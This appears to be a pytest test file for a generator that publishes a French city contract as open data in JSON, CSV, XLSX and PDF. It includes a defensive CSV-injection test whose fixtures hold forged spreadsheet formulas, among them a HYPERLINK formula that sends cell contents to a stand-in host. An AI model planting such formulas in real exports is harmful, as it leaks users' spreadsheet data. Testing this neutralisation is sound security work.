"""Open data, pictures and print: what a journalist or a data re-user gets from the site."""
import csv
import html
import io
import json
import subprocess
import sys
import re
import shutil

import pytest
from jsonschema import Draft202012Validator

from generator.publish import export, opendata

from generator.site import urls
from generator.check.pipeline import check
from tests.conftest import CONTRACT, MINI, ROOT, drop_source


@pytest.fixture(scope="module")
def contract():
    return check(CONTRACT).contract


def validator(schema):
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def test_contract_json_validates_and_matches_the_site(real_site, contract):
    data_dir = real_site / "donnees"
    schema = json.loads((data_dir / "schemas/export.schema.json").read_text(encoding="utf-8"))
    data = json.loads((data_dir / "contrat.json").read_text(encoding="utf-8"))
    assert list(validator(schema).iter_errors(data)) == []
    footer = re.search(r'cv-version">([^<]+)<', (real_site / "index.html").read_text(encoding="utf-8")).group(1)
    assert data["publication"] == {"licence": "Licence Ouverte / Open Licence 2.0",
                                   "licence_url": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
                                   "version": footer}
    assert {k: v for k, v in data.items() if k != "publication"} == export.to_data(contract)
    sheets = [a["id"] for axis in data["axes"] for o in axis["objectives"] for a in o["actions"]]
    assert sheets == sorted((p.name for p in (real_site / "fiches").iterdir()), key=lambda i: tuple(map(int, i.split("."))))


def test_each_sheet_has_its_own_json(real_site, contract):
    schema = json.loads((real_site / "donnees/schemas/action.schema.json").read_text(encoding="utf-8"))
    check_sheet = validator(schema)
    for action in contract.all("actions"):
        data = json.loads((real_site / urls.item_data(action, contract.structure)).read_text(encoding="utf-8"))
        assert list(check_sheet.iter_errors(data)) == [] and data == dict(action.data)
        page = (real_site / f"fiches/{action.id}/index.html").read_text(encoding="utf-8")
        assert f'href="../../donnees/fiches/{action.id}.json"' in page


def test_csv_tables_match_the_data_package(real_site, contract):
    package = json.loads((real_site / "donnees/datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"][0]["title"] == "Licence Ouverte / Open Licence 2.0"
    tables = [r for r in package["resources"] if r.get("schema")]
    assert {t["path"] for t in tables} == {t.file for t in export.tables_of(contract).values()}
    for table in tables:
        rows = list(csv.reader(io.StringIO((real_site / "donnees" / table["path"]).read_text(encoding="utf-8"))))
        assert rows[0] == [f["name"] for f in table["schema"]["fields"]]
        assert all(len(r) == len(rows[0]) for r in rows)
        assert all(f["description"] for f in table["schema"]["fields"])
    actions = list(csv.DictReader(io.StringIO((real_site / "donnees/fiches-actions.csv").read_text(encoding="utf-8"))))
    assert [(a["id"], a["intitule"]) for a in actions] == [(a.id, a.title) for a in contract.all("actions")]
    stats = list(csv.DictReader(io.StringIO((real_site / "donnees/statistiques.csv").read_text(encoding="utf-8"))))
    table = contract.get("statistics", "insee-2011-zus")
    assert len(stats) == len(table.rows) * len(table.columns)
    etouvie = next(s for s in stats if s["ligne"] == "Taux d'activité" and s["territoire"] == "zus-etouvie")
    assert (etouvie["texte"], etouvie["valeur"], etouvie["unite"]) == ("59 %", "59", "pourcentage")


def test_data_package_is_valid_for_frictionless(real_site):
    """The field's own validator reads the package, each CSV against its Table Schema."""
    run = subprocess.run([sys.executable, "-m", "frictionless", "validate", "--json", "datapackage.json"],
                         cwd=real_site / "donnees", capture_output=True, text=True)
    report = json.loads(run.stdout)
    assert report["valid"], json.dumps(report, ensure_ascii=False)[:2000]
    assert sorted(task["name"] for task in report["tasks"]) == sorted([t.stem for t in export.tables_of(check(CONTRACT).contract).values()] + ["contrat", "classeur"])


def test_a_filled_in_contract_publishes_a_valid_package_with_unique_relations(tmp_path):
    """The second contract names institutions several times on one sheet (a funder of two lines) and has a
    licence without an address: relation rows stay unique (primary keys checked) and the package valid."""
    contract = check(ROOT / "tests/fixtures/second").contract
    for path, content in opendata.files(contract, {"licence": "Licence d'essai", "version": "v"}).items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(content if isinstance(content, bytes) else content.encode())
    run = subprocess.run([sys.executable, "-m", "frictionless", "validate", "--json", "datapackage.json"],
                         cwd=tmp_path / urls.DATA_FOLDER, capture_output=True, text=True)
    report = json.loads(run.stdout)
    assert report["valid"], json.dumps(report, ensure_ascii=False)[:2000]
    actors = list(csv.reader(io.StringIO(export.to_csv(contract, "actors"))))
    assert len(actors) == len({tuple(r) for r in actors}) > 40


def test_published_schemas_are_the_repository_schemas(real_site):
    for path in (ROOT / "schemas").glob("*.schema.json"):
        assert (real_site / "donnees/schemas" / path.name).read_text(encoding="utf-8") == path.read_text(encoding="utf-8")


def test_open_data_page_describes_every_file(real_site):
    page = (real_site / "donnees/index.html").read_text(encoding="utf-8")
    assert "Licence Ouverte / Open Licence 2.0" in page and "Version présentée : texte initial du 20 février 2015" in page
    footer = (real_site / "fiches/2.4.3/index.html").read_text(encoding="utf-8").split('class="md-copyright"')[1]
    assert "Données et textes : Licence Ouverte / Open Licence 2.0" in footer  # from contrat.yaml publication
    assert 'href="contrat.xlsx"' in page and "Formules neutralisées" in page
    for table in export.tables_of(check(CONTRACT).contract).values():
        assert f'href="{table.file}"' in page
        for col in table.columns:
            assert f"<code>{col.name}</code>" in page and f"<td>{html.escape(col.title, quote=False)}</td>" in page


def test_charts_carry_title_description_and_the_data(real_site, contract):
    page = (real_site / "chiffres/index.html").read_text(encoding="utf-8")
    figure = contract.get("figures", "droit-commun-2012")
    chart = page.split('id="graphique-droit-commun-2012"')[1].split("</figure>")[0]
    assert "<figcaption>" in chart and figure.data["population"] in chart
    amounts = sorted((i["amount"] for i in figure.data["items"]), reverse=True)
    shown = [html.unescape(v) for v in re.findall(r'class="cv-bars__value">([^<]+)<', chart)]
    assert shown == [f"{a:,}".replace(",", "\u202f") + "\u00a0€" for a in amounts]  # sorted, French format
    labels = re.findall(r'class="cv-bars__label">([^<]+)<', chart)
    assert sorted(map(html.unescape, labels)) == sorted(i["label"] for i in figure.data["items"])  # never cut
    assert 'id="graphique-acces-droits-sante"' not in page  # two populations: a table, no chart
    rhythm = (real_site / "gouvernance/index.html").read_text(encoding="utf-8").split('id="graphique-rythme"')[1]
    bodies = [g for g in contract.all("governance") if g.meetings_per_year]
    assert len(re.findall(r'class="cv-bars__bar cv-s0"', rhythm.split("</figure>")[0])) == len(bodies)


def test_structure_at_a_glance_links_every_sheet(real_site, contract):
    home = (real_site / "index.html").read_text(encoding="utf-8")
    block = home.split('class="cv-structure"')[1].split("</div>")[0]
    assert len(re.findall(r'href="fiches/[0-9.]+/"', block)) == len(contract.all("actions"))
    assert len(re.findall(r'href="objectifs/[0-9.]+/"', block)) == len(contract.all("objectives"))


def test_printable_contract_and_its_pdf(real_site, contract):
    page = (real_site / "imprimer/index.html").read_text(encoding="utf-8")
    for part in contract.meta["parts"]:
        assert part["title"].replace("'", "&#39;") in page or part["title"] in page
    assert len(set(re.findall(r'href="../fiches/([0-9.]+)/"', page))) == len(contract.all("actions"))
    assert 'href="contrat-de-ville.pdf"' in page
    from pypdf import PdfReader
    pdf = PdfReader(real_site / "imprimer/contrat-de-ville.pdf")
    assert len(pdf.pages) > 40
    first = pdf.pages[0].extract_text()
    assert contract.meta["title"] in first and "version imprimable" in first
    last = pdf.pages[-1].extract_text()
    assert contract.meta["signature_block"][0] in last and f"{len(pdf.pages)} / {len(pdf.pages)}" in last


def _numbers(value):
    """Every number in a data value (nested lists and mappings), booleans aside."""
    if isinstance(value, bool):
        return
    if isinstance(value, (int, float)):
        yield value
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _numbers(v)
    elif hasattr(value, "items"):
        for v in value.values():
            yield from _numbers(v)


@pytest.mark.parametrize("fixture", [CONTRACT, ROOT / "tests/fixtures/second"])
def test_every_figure_the_site_shows_is_in_a_table(fixture):
    """Figures (« Chiffres »), statistics, signatories' amounts, sheets' funding, meeting rhythms, commitments'
    targets, follow-ups' figures: every number the data holds for those pages is a typed value of a table, the
    2012 amounts by institution included."""
    contract = check(fixture).contract
    rows = export.rows_of(contract)
    exported = {(name, v) for name, table in export.tables_of(contract).items() for row in rows[name]
                for col, v in zip(table.columns, row) if col.type != "string" and v is not None}
    tables_of_numbers = {name for name, _ in exported}
    for collection in ("figures", "statistics", "signatories", "actions", "governance", "commitments", "follow-ups"):
        for entity in contract.all(collection):
            for number in _numbers({k: v for k, v in entity.data.items() if k != "id"}):
                assert any((t, number) in exported for t in tables_of_numbers), (collection, entity.id, number)
    by_institution = {(r[0], r[3]) for r in rows["signatory_amounts"]}
    for signatory in contract.all("signatories"):
        for amount in signatory.amounts or ():
            assert (signatory.id, amount["amount_eur"]) in by_institution
    shown = {(r[0], r[3], r[6]) for r in rows["figures"]}
    assert shown == {(f.id, i["label"], i["amount"]) for f in contract.all("figures") for i in f.data["items"]}


def test_the_workbook_holds_the_csv_tables_typed(real_site):
    """One workbook, a sheet per table from the same rows: French titles, numbers as numbers, exact text."""
    from openpyxl import load_workbook
    book = load_workbook(real_site / "donnees/contrat.xlsx")
    published = export.tables_of(check(CONTRACT).contract)
    assert book.sheetnames == ["À lire", *(t.stem for t in published.values())]
    assert book.properties.created.year == 1980  # fixed: two builds give the same bytes
    for table in published.values():
        sheet = list(book[table.stem].iter_rows(values_only=True))
        assert list(sheet[0]) == [col.title for col in table.columns]
        csv_rows = list(csv.reader(io.StringIO((real_site / "donnees" / table.file).read_text(encoding="utf-8"))))[1:]
        assert len(sheet) - 1 == len(csv_rows), table.file
        for cells, texts in zip(sheet[1:], csv_rows):
            for col, cell, text in zip(table.columns, cells, texts):
                if col.type == "string":
                    assert (cell or "") == (text[1:] if export.is_formula_like(text[1:]) and text[:1] == "'" else text)
                else:
                    assert cell is None if text == "" else (isinstance(cell, (int, float)) and cell == float(text))
    chiffres = {(r[0], r[4]): r[6] for r in list(book["chiffres"].iter_rows(values_only=True))[1:]}
    assert chiffres[("droit-commun-2012", "departement-somme")] == 72500000
    about = {r[0]: r[1] for r in book["À lire"].iter_rows(values_only=True) if r[0]}
    assert about["Licence"] == "Licence Ouverte / Open Licence 2.0"


def test_open_data_files_are_byte_reproducible():
    contract = check(ROOT / "tests/fixtures/second").contract
    first, second = (opendata.files(contract, {"licence": "L", "version": "v"}) for _ in range(2))
    assert first == second and isinstance(first[urls.data_file("contrat.xlsx")], bytes)


FORMULAS = {  # text of the test contract: what a forger writes instead
    "Association des habitants": '=HYPERLINK("http://x.example/?"&A1,"clic")',
    "jeunes de 16 à 25 ans": "@SUM(1+1)",
    "nombre de participants": "+33 participants",
}


def test_cells_a_spreadsheet_would_run_are_neutralised_in_csv_and_workbook(tmp_path):
    """OWASP « CSV injection »: a text cell starting with = + - @ tab or CR is prefixed with « ' » in the CSV
    and marked as text (quotePrefix) in the workbook, whose cell keeps the exact text; the JSON keeps it too;
    a negative number in a numeric column stays a number."""
    from openpyxl import load_workbook
    contract_dir = tmp_path / "contract"
    drop_source(shutil.copytree(MINI, contract_dir))
    sheet = (contract_dir / "actions/1.1.1.yaml").read_text(encoding="utf-8")
    for printed, forged in FORMULAS.items():
        sheet = sheet.replace(f'"{printed}"', json.dumps(forged))
    (contract_dir / "actions/1.1.1.yaml").write_text(sheet, encoding="utf-8")
    stats = contract_dir / "statistics/chiffres-cles.yaml"
    stats.write_text(stats.read_text(encoding="utf-8").replace('{text: "800", value: 800', '{text: "-800", value: -800'),
                     encoding="utf-8")
    result = check(contract_dir)
    assert result.ok, [p.message for p in result.problems]
    contract = result.contract
    actions = next(csv.DictReader(io.StringIO(export.to_csv(contract, "actions"))))
    assert actions["partenaires"] == "L'État | " + FORMULAS["Association des habitants"]  # mid-cell: no formula
    assert actions["publics"] == "'@SUM(1+1)" and actions["indicateurs"] == "'+33 participants"
    actors = list(csv.DictReader(io.StringIO(export.to_csv(contract, "actors"))))
    assert {"fiche": "1.1.1", "acteur": "", "nom": "'" + FORMULAS["Association des habitants"], "role": "partenaire"} in actors
    stats_rows = list(csv.DictReader(io.StringIO(export.to_csv(contract, "statistics"))))
    gare = next(r for r in stats_rows if r["ligne"] == "Habitants" and r["territoire"] == "gare")
    assert (gare["texte"], gare["valeur"]) == ("'-800", "-800")  # the text is neutralised, the number is not
    for table in export.tables_of(contract).values():
        text_columns = [col.name for col in table.columns if col.type == "string"]
        for row in csv.DictReader(io.StringIO(export.to_csv(contract, table.name))):
            assert not any(export.is_formula_like(row[name]) for name in text_columns), row
    data = json.loads(export.to_json(contract))
    assert data["axes"][0]["objectives"][0]["actions"][0]["publics"] == ["@SUM(1+1)"]  # JSON: the exact text

    files = opendata.files(contract, {"version": "v"})
    (tmp_path / "book.xlsx").write_bytes(files[urls.data_file("contrat.xlsx")])
    book = load_workbook(tmp_path / "book.xlsx")
    cells = [c for row in book["fiches-acteurs"].iter_rows(min_row=2) for c in row if c.value == FORMULAS["Association des habitants"]]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    stats_sheet = {(r[1].value, r[2].value): r for r in book["statistiques"].iter_rows(min_row=2)}
    text_cell, value_cell = stats_sheet[("Habitants", "gare")][4:6]
    assert (text_cell.value, text_cell.data_type, text_cell.quotePrefix) == ("-800", "s", True)
    assert (value_cell.value, value_cell.data_type) == (-800, "n")
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_csv_writer_neutralises_every_formula_start():
    table = export.Table("t", "t.csv", "essai", (export.Column("texte", "Texte", "texte"), export.Column("n", "N", "nombre", "number")), list)
    starts = [s for s in export.FORMULA_START if s != "\r"]  # a carriage return never reaches a table: CV405 refuses it
    rows = [[start + "1", -1.5] for start in starts] + [["a=1", None]]
    written = list(csv.reader(io.StringIO(export.csv_text(table, rows), newline="")))
    assert written[1:] == [["'" + start + "1", "-1.5"] for start in starts] + [["a=1", ""]]
    assert export.is_formula_like("\r1")
